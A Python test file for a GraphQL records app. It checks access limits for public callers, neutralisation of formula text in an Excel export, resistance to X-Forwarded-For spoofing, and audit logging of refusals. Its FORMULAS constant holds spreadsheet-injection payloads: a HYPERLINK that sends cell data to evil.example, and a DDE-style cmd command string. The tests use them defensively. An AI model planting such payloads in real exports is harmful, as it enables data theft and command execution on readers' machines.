"""Access over the served app (issue 16): no association data for the public through nested
person fields, no live formulas in the Excel export, no client-chosen address or operation name
in the rate limit and the audit log, refusals audited."""

from __future__ import annotations

import io
import re
from collections.abc import Iterator
from datetime import date

import httpx
import pytest
from openpyxl import load_workbook

from api.audit import AuditEntry, AuditLog
from api.gql.records import FILING_LIMIT
from api.roles import Role
from graph.ids import make_id
from graph.model import Link, Listing, Record, Rel
from graph.settings import GraphSettings
from graph.store import GraphStore
from tests.api.conftest import Api, served_api
from tests.conftest import ROOT
from tests.queries.graphs import PROV, USCC, eid

FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"点击")', '@SUM(1+1)*cmd|" /C calc"!A0')


def evil_listing(store: GraphStore) -> None:
    """C is on a list whose name and reason are formulas (outside data can say anything)."""
    listing = Listing(
        make_id("listing", FORMULAS[0], USCC["C"]),
        FORMULAS[0],
        "black",
        listed_on=date(2025, 1, 1),
        reason=FORMULAS[1],
    )
    link = Link(Rel.LISTED_IN, eid("C"), listing.id)
    store.writer().add_all([Record(PROV, (listing,), (link,))])


@pytest.fixture(scope="module")
def api(
    graph_settings: GraphSettings, session_store: GraphStore, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Api]:
    yield from served_api(graph_settings, session_store, tmp_path_factory, evil_listing)


def last_entry(api: Api) -> AuditEntry:
    return AuditLog(api.settings.audit_path).entries()[-1]


# -- finding 2: a person seen in a public profile leads nowhere -------------------------------


def codes(body: dict[str, object]) -> set[str]:
    return {e["extensions"]["code"] for e in body.get("errors", [])}  # type: ignore[attr-defined, index]


def test_public_callers_cannot_walk_from_a_person_to_other_firms(api: Api) -> None:
    walks = (
        "legalRepresentative { name roles { role entity { uscc name } } }",
        "legalRepresentative { name listings { listName } }",
        "officers { person { roles { entity { uscc } } } }",
        "shareholders { person { roles { entity { uscc } } listings { listName } } }",
    )
    for walk in walks:
        response = api.post(f"query($u: String!) {{ entity(uscc: $u) {{ name {walk} }} }}", u=USCC["A"])
        assert USCC["B"] not in response.text, (walk, response.text)
        if walk.startswith("legalRepresentative"):  # 王强 represents A and B
            assert codes(response.json()) == {"FORBIDDEN"}, response.text
    # Investigators still follow the person to the other firm.
    roles = api.data(
        "query($u: String!) { entity(uscc: $u) { legalRepresentative { roles { entity { uscc } } } } }",
        Role.INVESTIGATOR,
        u=USCC["A"],
    )["entity"]["legalRepresentative"]["roles"]
    assert {r["entity"]["uscc"] for r in roles} == {USCC["A"], USCC["B"]}


def test_the_public_profile_page_query_still_answers(api: Api) -> None:
    """The explorer's own profile query (api/static/explore.js), as the public role runs it."""
    script = (ROOT / "api" / "static" / "explore.js").read_text(encoding="utf-8")
    found = re.search(r"const ENTITY = `(.*?)`;", script, re.S)
    assert found
    parts = {m.group(1): m.group(2) for m in re.finditer(r'const ([A-Z]+) = ["`](.*?)["`];', script, re.S)}
    query = re.sub(r"\$\{([A-Z]+)\}", lambda m: parts[m.group(1)], found.group(1))
    profile = api.data(query, uscc=USCC["A"])["entity"]
    assert (
        profile["legalRepresentative"]["name"] == "王强"
        and profile["legalRepresentative"]["maskedId"] is None
    )


# -- finding 3: the Excel export writes text, never formulas ----------------------------------


def test_the_excel_export_neutralises_formula_text(api: Api) -> None:
    form = {"usccs": f"{USCC['C']}\n{USCC['D']}", "asOf": "2026-01-01", "purpose": "测试"}
    sid = httpx.post(f"{api.url}/login", data={"key": "inv-key"}).cookies["cg_key"]
    answer = httpx.post(
        f"{api.url}/bidders/export.xlsx",
        data=form,
        cookies={"cg_key": sid},
        headers={"Origin": api.url},
        timeout=60,
    )
    assert answer.status_code == 200, answer.text
    book = load_workbook(io.BytesIO(answer.content))
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells}
    assert {"'" + f for f in FORMULAS} <= texts, texts
    assert all(c.data_type == "s" for c in cells if isinstance(c.value, str))


# -- finding 4: forwarded headers, the operation name, refusals -------------------------------


def test_a_forwarded_for_header_moves_neither_the_rate_limit_nor_the_audit(api: Api) -> None:
    spoof = {"X-Forwarded-For": "203.0.113.7"}
    query = {"query": "query($u: String!) { entity(uscc: $u) { name } }", "variables": {"u": USCC["A"]}}
    assert httpx.post(f"{api.url}/graphql", json=query, headers=spoof).status_code == 200
    assert last_entry(api).remote == "127.0.0.1"
    filing = """mutation($s: String!) { fileObjection(subject: $s, record: "listing:none", reason: "已履行",
      contact: "13900001111") { id } }"""
    FILING_LIMIT.seen.clear()
    try:
        seen = set()
        for n in range(8):
            headers = {"X-Forwarded-For": f"198.51.100.{n}"}
            body = {"query": filing, "variables": {"s": eid("A")}}
            seen |= codes(httpx.post(f"{api.url}/graphql", json=body, headers=headers, timeout=60).json())
        assert "RATE_LIMITED" in seen, seen
    finally:
        FILING_LIMIT.seen.clear()


def test_the_audit_names_the_root_fields_and_logs_refusals(api: Api) -> None:
    disguised = (
        'query HarmlessHealthCheck($u: [String!]!) { bidderCheck(usccs: $u, purpose: "测试") { asOf } }'
    )
    api.data(disguised, Role.INVESTIGATOR, u=[USCC["A"], USCC["B"]])
    entry = last_entry(api)
    assert entry.operation == "bidderCheck" and entry.role == "investigator" and entry.outcome == "ok"

    refused = api.post('query Nothing { person(id: "p:wang", purpose: "测试") { name } }')
    assert codes(refused.json()) == {"FORBIDDEN"}
    entry = last_entry(api)
    assert (entry.operation, entry.role, entry.outcome) == ("person", "public", "FORBIDDEN")

    bad_key = httpx.post(
        f"{api.url}/graphql", json={"query": "{ __typename }"}, headers={"Authorization": "Bearer nope"}
    )
    assert bad_key.status_code == 401
    entry = last_entry(api)
    assert (entry.outcome, entry.key_id, entry.remote) == ("401", "unknown-key", "127.0.0.1")
    assert "nope" not in api.settings.audit_path.read_text()
    assert AuditLog(api.settings.audit_path).verify() is None
